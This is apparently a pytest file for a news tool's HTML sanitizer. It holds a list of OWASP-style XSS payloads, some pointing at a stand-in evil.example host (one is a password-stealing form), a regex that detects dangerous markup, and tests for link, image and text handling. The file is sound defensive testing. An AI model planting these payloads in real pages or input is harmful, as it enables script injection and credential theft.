"""sanitize_html: an OWASP-style XSS vector list must come out inert; links and images are normalised."""

from __future__ import annotations

import re

import pytest

from tidings.extract.sanitize import html_to_text, sanitize_html

BASE = "https://news.example/world/story.html"

# Each vector must lose everything executable. Sources: OWASP XSS filter evasion cheat sheet, html5sec.org.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<IMG SRC="javascript:alert(1);">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" \x01javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<p style="width: expression(alert(1))">styled</p>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<body onload="alert(1)">text</body>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="#" xlink:href="javascript:alert(1)">x</a>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<template><img src=x onerror="alert(1)"></template>',
]

DANGEROUS = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|form|meta|link|base|button|input|template)\b"
    r"|\son\w+\s*="
    r"|javascript:|vbscript:|data:|expression\(|srcdoc|formaction|style=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector: str) -> None:
    cleaned = sanitize_html(vector, base_url=BASE)
    assert not DANGEROUS.search(cleaned), cleaned


def test_links_become_absolute_with_rel_noopener_nofollow() -> None:
    cleaned = sanitize_html('<p>See <a href="../sport/match.html" id="x" class="y">the match</a>.</p>', base_url=BASE)
    assert 'href="https://news.example/sport/match.html"' in cleaned
    assert 'rel="noopener nofollow"' in cleaned
    assert 'target="_blank"' in cleaned
    assert "class=" not in cleaned and "id=" not in cleaned


def test_mailto_links_are_kept_and_unsafe_links_are_unwrapped() -> None:
    cleaned = sanitize_html('<p><a href="mailto:desk@news.example">Write</a> <a href="javascript:x()">bad</a></p>')
    assert 'href="mailto:desk@news.example"' in cleaned
    assert "bad" in cleaned and "javascript" not in cleaned
    assert cleaned.count("<a ") == 1


def test_images_must_be_absolute_http() -> None:
    cleaned = sanitize_html(
        '<figure><img src="/img/a.jpg" alt="A" onerror="x()"><figcaption>Caption</figcaption></figure>'
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
        '<img src="ftp://files.example/b.jpg">',
        base_url=BASE,
    )
    assert '<img src="https://news.example/img/a.jpg" alt="A">' in cleaned
    assert cleaned.count("<img") == 1
    assert "<figcaption>Caption</figcaption>" in cleaned


def test_relative_image_without_base_is_dropped() -> None:
    assert "<img" not in sanitize_html('<p>x<img src="/a.jpg"></p>')


def test_reading_structure_survives() -> None:
    html = (
        "<h1>Title</h1><h3>Sub</h3><h6>Minor</h6><p><em>a</em> <strong>b</strong></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote>"
        "<table><tr><th>h</th></tr><tr><td colspan=2>c</td></tr></table>"
    )
    cleaned = sanitize_html(html)
    for fragment in ("<h2>Title</h2>", "<h3>Sub</h3>", "<h4>Minor</h4>", "<em>a</em>", "<strong>b</strong>",
                     "<li>one</li>", "<blockquote>quote</blockquote>", "<th>h</th>", '<td colspan="2">c</td>'):
        assert fragment in cleaned


def test_unknown_tags_are_unwrapped_but_content_kept() -> None:
    assert sanitize_html("<div><span>kept text</span></div>") == "kept text"


def test_empty_input() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("   ") == ""


def test_html_to_text_paragraphs() -> None:
    html = "<h2>Head</h2><p>First  para<br>line two</p><script>var x=1;</script><ul><li>a</li><li>b</li></ul>"
    assert html_to_text(html) == "Head\n\nFirst para\nline two\n\na\n\nb"


def test_html_to_text_empty() -> None:
    assert html_to_text("") == ""
    assert html_to_text("<p> </p>") == ""
